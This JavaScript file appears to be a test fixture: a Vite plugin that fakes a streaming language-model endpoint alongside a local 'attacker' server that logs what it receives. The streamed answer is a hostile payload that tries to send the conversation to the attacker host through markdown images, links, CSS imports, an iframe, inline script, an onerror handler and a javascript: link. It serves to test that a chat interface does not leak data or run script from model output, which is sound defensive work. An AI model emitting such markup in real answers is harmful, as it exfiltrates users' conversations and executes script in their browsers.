// A server that answers as a language model's does: events of a few letters each. What it says is hostile and names an attacker,
// another server, which counts what it is sent.
import { once } from "node:events";
import { createServer } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";

const LETTERS = 5;
const PAUSE_MS = 10;

const answer = (attacker) => `## Your report

The numbers of \`${attacker}\` are **good**. ![](${attacker}/pixel?q=the-conversation)

<img src="${attacker}/x" onerror="fetch('${attacker}/xss')">

| quarter | orders |
|---|--:|
| one | 12 |
| two | [34](${attacker}/two) |

![what you said][secret] and <style>@import "${attacker}/sheet";</style>

[secret]: ${attacker}/reference

<iframe src="${attacker}/frame"></iframe><script>fetch("${attacker}/script")</script>

[Go on](javascript:fetch('${attacker}/link')) when you are ready.
`;

/** What Vite's servers do besides: `/answer` is the model, and `/received` says what the attacker got. */
export function model() {
  const received = [];
  const attacker = createServer((request, response) => {
    received.push(request.url);
    response.writeHead(204, { "Access-Control-Allow-Origin": "*", "Cache-Control": "no-store" }).end();
  });
  const listening = once(attacker.listen(0, "127.0.0.1"), "listening");
  attacker.unref();

  async function speak(_, response) {
    await listening;
    const text = answer(`http://127.0.0.1:${attacker.address().port}`);
    response.writeHead(200, { "Content-Type": "text/event-stream", "Cache-Control": "no-store" });
    for (let at = 0; at < text.length; at += LETTERS) {
      const delta = { content: text.slice(at, at + LETTERS) };
      response.write(`data: ${JSON.stringify({ choices: [{ delta }] })}\n\n`);
      await sleep(PAUSE_MS);
    }
    response.end("data: [DONE]\n\n");
  }

  function serve({ middlewares }) {
    middlewares.use("/answer", speak);
    middlewares.use("/received", (_, response) => {
      response.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify(received));
    });
  }

  return { name: "model", configureServer: serve, configurePreviewServer: serve };
}
